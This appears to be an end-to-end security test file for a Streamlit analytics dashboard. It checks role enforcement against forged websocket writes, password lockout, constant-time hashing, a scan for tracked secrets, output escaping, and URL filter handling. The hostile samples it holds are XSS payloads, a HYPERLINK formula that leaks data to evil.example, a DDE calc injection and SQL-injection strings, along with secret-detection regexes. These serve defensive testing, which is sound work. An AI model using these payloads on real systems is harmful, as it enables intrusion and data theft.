"""Security through the real server: writes forged on the wire by a viewer are refused, hostile text from
the data renders as text and runs nothing (and exports neutralise formulas), hostile filter values in the
URL change nothing but the filter, and no secret is in the repository."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import unicodedata
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from analytics import ingest
from analytics.store import open_store
from tests.analytics.ingest import fixtures as fx
from tests.conftest import ROOT, fingerprint
from tests.e2e.helpers import PASSWORD, start_app
from tests.e2e.wire import WireSession

pytestmark = pytest.mark.e2e


# --- writes forged on the wire ------------------------------------------------------------------------------


def _sign_in(session: WireSession, query: str = "") -> None:
    first = session.rerun("data", query=query)
    password = first.widget("text_input", "auth_password")
    submit = first.widget("button", label="Đăng nhập")
    signed = session.rerun("data", states=[session.string(password.id, PASSWORD), session.trigger(submit.id)])
    assert "Đã đăng nhập với vai trò phân tích." in signed.text


FIRST = "program=1-trieu-sang-kien"


def test_writes_forged_by_a_viewer_on_the_wire_are_refused(sample_db, tmp_path):
    """A viewer's session sends, over the websocket, the widget states an analyst's browser would send for
    every write (import a file, undo an import, remove the sample, save targets), with the widget ids
    learned from a real analyst session. The server runs the viewer's script, which never draws those
    controls for a viewer, so nothing is written. The same messages from the analyst's session do write:
    the forgeries are well-formed, only the role stops them."""
    db = tmp_path / "store.duckdb"
    shutil.copy(sample_db, db)
    store = open_store(db, read_only=True)
    first_unit = str(ingest.targets_wide(store, "1-trieu-sang-kien")["unit_code"].iloc[0])
    target_before = store.one("SELECT target FROM targets WHERE unit_code = ? AND phase = 1", [first_unit])
    records_before = store.record_count()
    store.close()
    # The data editor's state as the browser sends it (a JSON string of the edits).
    edit = json.dumps({"edited_rows": {"0": {"1": 999}}, "added_rows": [], "deleted_rows": []})
    server = start_app(db, tmp_path / "srv", password=PASSWORD)
    analyst, viewer = WireSession(server.url), WireSession(server.url)
    try:
        # The analyst's session: sign in, and learn the ids of every write control.
        _sign_in(analyst, FIRST)  # the targets of "1 triệu sáng kiến" (phase 1) are edited below
        page = analyst.rerun("data")
        uploader = page.widget("file_uploader", "data_upload_0").id
        sample_remove = page.widget("button", "data_sample_remove").id
        undo_ask = page.widget("button", "data_undo_ask").id
        editor = page.widget("dataframe", "data_targets_editor").id
        save = page.widget("button", "data_targets_save").id
        real = analyst.upload(uploader, "that.csv", fx.csv_bytes(fx.rows(3, prefix="REAL-")))
        page = analyst.rerun("data", states=[real])
        commit = page.widget("button", "data_commit").id
        asked = analyst.rerun("data", states=[analyst.trigger(undo_ask)])
        undo_yes = asked.widget("button", "data_undo_yes").id
        analyst.rerun("data", states=[analyst.trigger(asked.widget("button", "data_undo_no").id)])
        confirm = analyst.rerun("data", states=[analyst.trigger(sample_remove)])
        sample_yes = confirm.widget("button", "data_sample_yes").id
        analyst.rerun("data", states=[analyst.trigger(confirm.widget("button", "data_sample_no").id)])

        # The viewer is never sent a write control...
        shown = viewer.rerun("data", query=FIRST)
        assert "Bạn đang xem ở chế độ chỉ đọc" in shown.text
        assert not [w for w in shown.widgets if w.kind in ("file_uploader", "dataframe")]
        assert not [w for w in shown.widgets if w.id in (commit, undo_ask, undo_yes, sample_remove, save)]
        # ...and sends them anyway. The upload endpoint refuses the viewer's file outright (ui.gate).
        forged = fx.csv_bytes(fx.rows(3, prefix="FORGED-"))
        urls = viewer.upload_urls("gia-mao.csv")
        assert viewer.put_file(urls, "gia-mao.csv", forged) == 403
        forged_file = viewer.uploader_state(uploader, urls, "gia-mao.csv", len(forged))
        forgeries = {
            "import": [forged_file, viewer.trigger(commit)],
            "undo the sample": [viewer.trigger(undo_ask), viewer.trigger(undo_yes)],
            "remove the sample": [viewer.trigger(sample_remove), viewer.trigger(sample_yes)],
            "save targets": [viewer.string(editor, edit), viewer.trigger(save)],
        }
        for name, states in forgeries.items():
            run = viewer.rerun("data", states=states)
            assert run.finished and not run.exceptions, name
            assert not re.search(r"Đã thêm mới|Đã hoàn tác|Đã lưu", run.text), name
            assert "Bạn đang xem ở chế độ chỉ đọc" in run.text, name

        # The same messages from the analyst's session write: the forgeries were well-formed.
        done = analyst.rerun("data", states=[real, analyst.trigger(commit)])
        assert "Đã thêm mới 3" in done.text and "Lần nhập số 2" in done.text
        saved = analyst.rerun("data", states=[analyst.string(editor, edit), analyst.trigger(save)])
        assert "Đã lưu: 1 ô sửa" in saved.text
        undone = analyst.rerun("data", states=[analyst.trigger(undo_ask), analyst.trigger(undo_yes)])
        assert "Đã hoàn tác lần nhập số 2" in undone.text
    finally:
        analyst.close()
        viewer.close()
        server.stop()
    store = open_store(db, read_only=True)
    try:
        # Only the analyst's writes happened: import #2 (then undone) and one target; the sample stays.
        assert store.rows("SELECT id, mode, undone_at IS NOT NULL FROM imports ORDER BY id") == [
            (1, "sample", False),
            (2, "upsert", True),
        ]
        assert store.record_count() == records_before
        assert store.one("SELECT count(*) FROM initiatives WHERE code LIKE 'FORGED-%'") == 0
        assert target_before != 999
        assert store.one("SELECT target FROM targets WHERE unit_code = ? AND phase = 1", [first_unit]) == 999
        changes = store.rows(
            "SELECT changed_by, table_name, row_key, new_value FROM reference_history ORDER BY 1, 2"
        )
        assert [c[:3] for c in changes] == [
            ("analyst", "imports", "2"),
            ("analyst", "targets", f"{first_unit}|1|1-trieu-sang-kien"),
        ]
    finally:
        store.close()


def _try_password(session: WireSession, password: str) -> str:
    run = session.rerun("data")
    field, submit = run.widget("text_input", "auth_password"), run.widget("button", label="Đăng nhập")
    return session.rerun("data", states=[session.string(field.id, password), session.trigger(submit.id)]).text


def test_password_guessing_is_locked_across_sessions(sample_db, tmp_path):
    """Five wrong passwords lock sign-in for 60 s for the whole client, not just its session: a guesser
    who opens a new session (a new websocket, what a reload does) is still locked out, even with the
    right password."""
    db = tmp_path / "store.duckdb"
    shutil.copy(sample_db, db)
    server = start_app(db, tmp_path / "srv", password=PASSWORD)
    sessions = [WireSession(server.url) for _ in range(3)]
    try:
        first, second, third = sessions
        for attempt in range(5):
            assert "Mật khẩu không đúng." in _try_password(first, f"doan-sai-{attempt}")
        assert "Sai mật khẩu quá nhiều lần" in first.rerun("data").text
        # A fresh session from the same client: locked too, and the right password does not get in.
        assert "Sai mật khẩu quá nhiều lần" in second.rerun("data").text
        text = _try_password(third, PASSWORD)
        assert "Đã đăng nhập với vai trò phân tích." not in text and "Sai mật khẩu quá nhiều lần" in text
    finally:
        for session in sessions:
            session.close()
        server.stop()


def test_the_password_check_compares_in_constant_time_with_a_salt_per_hash(monkeypatch):
    """The existing tests show salting and matching; this one shows the comparison itself is
    hmac.compare_digest (time independent of where the bytes differ), for right and wrong passwords."""
    import base64
    import hmac

    from analytics import auth

    encoded = auth.hash_password("mot-mat-khau-dai", n=2**10)
    salt = base64.b64decode(encoded.split("$")[4])
    assert len(salt) == auth.SALT_BYTES == 16
    assert auth.hash_password("mot-mat-khau-dai", n=2**10).split("$")[4] != encoded.split("$")[4]
    calls, original = [], hmac.compare_digest

    def spy(a, b):
        calls.append((len(a), len(b)))
        return original(a, b)

    monkeypatch.setattr(auth.hmac, "compare_digest", spy)
    assert auth.verify_password("mot-mat-khau-dai", encoded) is True
    assert auth.verify_password("mot-mat-khau-sai", encoded) is False
    assert auth.verify_password("", encoded) is False
    assert calls == [(32, 32)] * 3


# --- no secret in the repository ----------------------------------------------------------------------------

_SECRET_PATTERNS = {
    "private key": re.compile(r"-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED )?PRIVATE KEY-----"),
    "password hash": re.compile(r"scrypt\$\d+\$\d+\$\d+\$[A-Za-z0-9+/=]{8,}\$[A-Za-z0-9+/=]{16,}"),
    "OIDC client secret": re.compile(r"client_secret\s*=\s*[\"'][^\"'<>{}]{8,}[\"']"),
    "cookie secret": re.compile(r"cookie_secret\s*=\s*[\"'][^\"'<>{}]{8,}[\"']"),
    "AWS key": re.compile(r"AKIA[0-9A-Z]{16}"),
    "GitHub token": re.compile(r"gh[pousr]_[A-Za-z0-9]{30,}"),
}


def tracked_files() -> list[str]:
    out = subprocess.run(["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, check=True)
    return [name for name in out.stdout.decode().split("\0") if name]


def test_no_secret_is_tracked_in_the_repository():
    files = tracked_files()
    assert files, "not a git checkout"
    assert not [f for f in files if f.endswith("secrets.toml")], "a secrets.toml is tracked"
    assert ".streamlit/secrets.toml" in (ROOT / ".gitignore").read_text(encoding="utf-8")
    found = []
    for name in files:
        path = ROOT / name
        if not path.is_file() or path.stat().st_size > 5_000_000:
            continue
        text = path.read_bytes().decode("utf-8", errors="ignore")
        for what, pattern in _SECRET_PATTERNS.items():
            for match in pattern.finditer(text):
                found.append(f"{name}: {what}: {match.group(0)[:40]}")
    assert found == []


def test_the_secret_scan_finds_what_it_looks_for(tmp_path):
    """The patterns above catch real secrets (so the scan cannot pass by matching nothing)."""
    from analytics.auth import hash_password

    # Assembled at run time, so this file holds none of them as written.
    sample = "\n".join(
        [
            f'password_hash = "{hash_password("mot-mat-khau", n=2**10)}"',
            "-----BEGIN " + "OPENSSH PRIVATE KEY-----",
            "client_" + 'secret = "GOCSPX-abcdefghijklmnop"',
            "cookie_" + 'secret = "a-long-random-cookie-secret"',
        ]
    )
    hits = {what for what, pattern in _SECRET_PATTERNS.items() if pattern.search(sample)}
    assert hits == {"password hash", "private key", "OIDC client secret", "cookie secret"}
    # The README's placeholder hash is not a secret and is not matched.
    assert not _SECRET_PATTERNS["password hash"].search('password_hash = "scrypt$16384$8$1$...$..."')


# --- hostile text from the data -----------------------------------------------------------------------------

HOSTILE = {
    "HX-1": "<img src=x onerror=window.__xss=1>",
    "HX-2": "<script>window.__xss=2</script>",
    "HX-3": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")',
    "HX-4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HX-5": "[bấm vào đây](javascript:window.__xss=5)",
    "HX-6": "**đậm** <b>in đậm</b> ![ảnh](https://evil.example/pixel.png)",
}
HOSTILE_FIELD = "<img src=x onerror=window.__xss=6>"
HOSTILE_AUTHOR = "<svg onload=window.__xss=7>"


def hostile_csv() -> bytes:
    body = []
    for i, (code, title) in enumerate(HOSTILE.items()):
        benefit = f"{(99 - i) * 100:,}".replace(",", ".") + ".000.000.000"  # the largest benefits of all
        field = HOSTILE_FIELD if code == "HX-5" else "Kỹ thuật – Công nghệ"
        author = HOSTILE_AUTHOR if code == "HX-5" else "Nguyễn Văn An"
        body.append(
            [str(i + 1), code, title, author, "PVEP", field, "Đã áp dụng", "31/08/2023", "", benefit, ""]
        )
    return fx.csv_bytes(body)


@pytest.fixture(scope="module")
def hostile(sample_db, tmp_path_factory):
    """One server on a store holding hostile titles, a hostile field and author (PVEP, the largest
    benefits, registered on the last day), plus the figures the URL tests expect, from the store itself."""
    from analytics import ingest
    from analytics.filters import Filters
    from analytics.metrics import progress

    work = tmp_path_factory.mktemp("hostile")
    db = work / "store.duckdb"
    shutil.copy(sample_db, db)
    store = open_store(db)
    report = ingest.commit(store, hostile_csv(), "hostile.csv")
    assert report.inserted == len(HOSTILE) and not report.rejected, report.message()

    def registered(**filters) -> int:
        return int(progress(store, Filters(**filters)).program["registered"])

    expected = {
        "all": registered(),
        "PVEP": registered(units=("PVEP",)),
        "PVEP_first": registered(units=("PVEP",), program="1-trieu-sang-kien"),
        "group": registered(groups=("Lọc hóa dầu",)),
        "group_phase1": registered(phase=1, groups=("Lọc hóa dầu",)),
    }
    store.close()
    before = fingerprint(db)
    server = start_app(db, work / "srv")
    yield server, expected, before
    server.stop()


def _watch(page) -> dict:
    """Record what would betray a script run or an outside request: dialogs, page errors, requests."""
    seen: dict = {"dialogs": [], "requests": []}
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on(
        "request",
        lambda r: seen["requests"].append(r.url) if urlsplit(r.url).hostname == "evil.example" else None,
    )
    return seen


def _ran_nothing(page, seen: dict, where: str) -> None:
    assert page.evaluate("() => typeof window.__xss") == "undefined", where
    assert seen["dialogs"] == [] and seen["requests"] == [], (where, seen)
    assert page.errors == [], (where, page.errors)
    dangerous = page.evaluate(
        """() => ({
            img: Array.from(document.querySelectorAll('img')).filter(i => i.getAttribute('src') === 'x' || (i.src || '').includes('evil.example')).length,
            script: Array.from(document.querySelectorAll('script')).filter(s => s.textContent.includes('__xss')).length,
            svg: document.querySelectorAll('svg[onload]').length,
            links: Array.from(document.querySelectorAll('a[href]')).filter(a => /^javascript:|evil\\.example/.test(a.getAttribute('href'))).length,
        })"""
    )
    assert dangerous == {"img": 0, "script": 0, "svg": 0, "links": 0}, (where, dangerous)


def test_hostile_titles_render_as_text_and_run_nothing_on_every_page(hostile, page):
    from tests.e2e.conftest import open_page, settle
    from tests.e2e.helpers import all_grid_text, wait_until

    server, _, _ = hostile
    seen = _watch(page)
    # Records: searched down to the hostile rows; every title is in the grid as typed.
    # (the hostile records are dated 31/08/2023: "1 triệu sáng kiến", which a bare link no longer opens)
    open_page(page, server.url + f"/records?unit=PVEP&{FIRST}")
    search = page.locator('[data-testid="stTextInput"] input').first
    search.fill("HX-")
    search.press("Enter")
    wait_until(
        lambda: "6 hồ sơ khớp bộ lọc" in page.locator('[data-testid="stMain"]').inner_text(), what="search"
    )
    settle(page)
    grid = wait_until(lambda: all_grid_text(page), what="records grid")
    for title in HOSTILE.values():
        assert title in grid, title
    _ran_nothing(page, seen, "records")

    # A unit's detail (its top initiatives), the Benefit page's top initiatives.
    open_page(page, server.url + f"/units?detail=PVEP&{FIRST}")
    page.locator('[role="dialog"]').wait_for(timeout=30_000)
    settle(page)
    grid = wait_until(lambda: all_grid_text(page), what="detail grids")
    assert HOSTILE["HX-1"] in grid and HOSTILE["HX-2"] in grid
    _ran_nothing(page, seen, "unit detail")
    open_page(page, server.url + f"/benefit?{FIRST}")
    grid = wait_until(lambda: HOSTILE["HX-1"] in all_grid_text(page) and all_grid_text(page), what="top grid")
    assert HOSTILE["HX-2"] in grid and HOSTILE["HX-5"] in grid
    _ran_nothing(page, seen, "benefit")

    # The report preview names the field with the largest benefit: the hostile one, as text.
    open_page(page, server.url + f"/report?{FIRST}")
    wait_until(
        lambda: HOSTILE_FIELD in page.locator('[data-testid="stMain"]').inner_text(), what="report text"
    )
    _ran_nothing(page, seen, "report")
    # Pages that draw the field in charts and the sidebar.
    for path in ("/", "/trends", "/units"):
        open_page(page, server.url + f"{path}?{FIRST}")
        _ran_nothing(page, seen, path)
    # The detector works: markup planted by a script is seen (so the checks above cannot pass vacuously).
    page.evaluate("""() => { const d = document.createElement('div');
        d.innerHTML = '<img src=x onerror="window.__xss=9">'; document.body.appendChild(d); }""")
    page.wait_for_function("() => window.__xss === 9", timeout=10_000)
    with pytest.raises(AssertionError):
        _ran_nothing(page, seen, "planted")


def test_records_downloads_neutralise_formulas(hostile, page):
    import io

    from openpyxl import load_workbook

    from tests.e2e.conftest import open_page
    from tests.e2e.helpers import read_csv_download

    server, expected, _ = hostile
    open_page(page, server.url + f"/records?unit=PVEP&{FIRST}")
    n = f"{expected['PVEP_first']:,}".replace(",", ".")
    data, rows = read_csv_download(page, f"Tải CSV ({n} hồ sơ)")
    assert data.startswith(b"\xef\xbb\xbf") and len(rows) == expected["PVEP_first"]
    titles = {r["Mã hồ sơ"]: r["Tên sáng kiến"] for r in rows if r["Mã hồ sơ"].startswith("HX-")}
    assert titles["HX-3"] == "'" + HOSTILE["HX-3"]  # '=HYPERLINK(...): text in Excel, never a formula
    assert titles["HX-4"] == "'" + HOSTILE["HX-4"]
    assert titles["HX-1"] == HOSTILE["HX-1"] and titles["HX-5"] == HOSTILE["HX-5"]  # kept verbatim
    with page.expect_download(timeout=60_000) as caught:
        page.locator('[data-testid="stDownloadButton"] button', has_text="Tải Excel").first.click()
    book = load_workbook(io.BytesIO(Path(caught.value.path()).read_bytes()))
    sheet = book.worksheets[0]
    cells = [
        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert len(cells) == 1 and cells[0].value == "'" + HOSTILE["HX-3"] and cells[0].data_type == "s"


# --- hostile filter values in the URL -----------------------------------------------------------------------

NOTICE = "Liên kết có giá trị không hợp lệ, đã bỏ qua"
NFD_GROUP = unicodedata.normalize("NFD", "Lọc hóa dầu")
URL_CASES = {
    # query parameters, expected registered (key of `expected`), what the notice must name (None: no notice).
    "quotes and Unicode tricks": (
        [("unit", "PVEP"), ("unit", "BSR' OR '1'='1"), ("unit", "B\u200bSR"), ("unit", "\u202ePVEP"),
         ("unit", "A" * 3000), ("group", 'x" OR 1=1 --')],
        "PVEP",
        ["unit=BSR' OR '1'='1", "unit=B\u200bSR", "unit=\u202ePVEP", "unit=AAAAAAAA", 'group=x" OR 1=1'],
    ),
    "SQL fragments": (
        [("unit", "PVEP'); DROP TABLE initiatives; --"), ("phase", "1 OR 1=1"), ("status", "recognized'--"),
         ("as_of", "2022-05-31' --"), ("from", "2022-01-01'; DELETE FROM initiatives")],
        "all",
        ["unit=PVEP'); DROP TABLE initiatives;", "phase=1 OR 1=1", "status=recognized'", "as_of=2022-05-31'",
         "from=2022-01-01'; DELETE FROM initiatives"],
    ),
    "the decomposed spelling of a group is the same group": (
        [("phase", "1"), ("group", NFD_GROUP)], "group_phase1", None,
    ),
}  # fmt: skip


def _query(params: list[tuple[str, str]]) -> str:
    from urllib.parse import quote, urlencode

    return urlencode(params, quote_via=quote)


@pytest.mark.parametrize("case", list(URL_CASES))
def test_hostile_filter_values_change_nothing_but_the_filter(hostile, page, case):
    from tests.e2e.conftest import exceptions_on, metric_value, open_page
    from tests.e2e.helpers import wait_until

    params, want, named = URL_CASES[case]
    server, expected, _ = hostile
    open_page(page, f"{server.url}/?{_query(params)}")
    value = wait_until(lambda: metric_value(page, "Đã đăng ký"), what="registered")[0]
    assert int(value.replace(".", "")) == expected[want]
    notices = [n for n in page.locator('[data-testid="stAlert"]').all_inner_texts() if NOTICE in n]
    if named is None:
        assert notices == []
    else:
        assert len(notices) == 1, notices
        for name in named:
            assert name in notices[0], (name, notices[0][:300])
    assert [e for e in exceptions_on(page) if NOTICE not in e] == []
    assert page.errors == []


def test_an_unknown_field_in_the_url_is_dropped_and_named(hostile, page):
    """A field no record has (here SQL fragments) is dropped like every other unknown value: the view stays
    unfiltered, the notice names what was ignored, and nothing is written (checked by the last test)."""
    from tests.e2e.conftest import metric_value, open_page
    from tests.e2e.helpers import wait_until

    server, expected, _ = hostile
    hostile_fields = [("field", "' OR '1'='1"), ("field", "x'); DELETE FROM initiatives; --")]
    open_page(page, server.url + "/?" + _query(hostile_fields))
    value = wait_until(lambda: metric_value(page, "Đã đăng ký"), what="registered")[0]
    assert int(value.replace(".", "")) == expected["all"]
    notices = [n for n in page.locator('[data-testid="stAlert"]').all_inner_texts() if NOTICE in n]
    assert len(notices) == 1, notices
    assert "field=' OR '1'='1" in notices[0] and "field=x'); DELETE FROM initiatives; --" in notices[0]


@pytest.mark.parametrize(
    "value",
    ["[Đăng nhập lại](https://evil.example/login)", "![x](https://evil.example/pixel.png)"],
    ids=["link", "image"],
)
def test_markdown_in_a_url_value_is_not_rendered_in_the_notice(hostile, page, value):
    from tests.e2e.conftest import open_page

    server, _, _ = hostile
    seen = _watch(page)
    open_page(page, f"{server.url}/?{_query([('unit', value)])}")
    notices = [n for n in page.locator('[data-testid="stAlert"]').all_inner_texts() if NOTICE in n]
    assert len(notices) == 1
    _ran_nothing(page, seen, value)
    assert value in notices[0]  # shown as the text that was in the link


def test_the_store_is_unchanged_by_all_that_hostile_input(hostile):
    server, _, before = hostile
    server.stop()
    assert fingerprint(server.db) == before
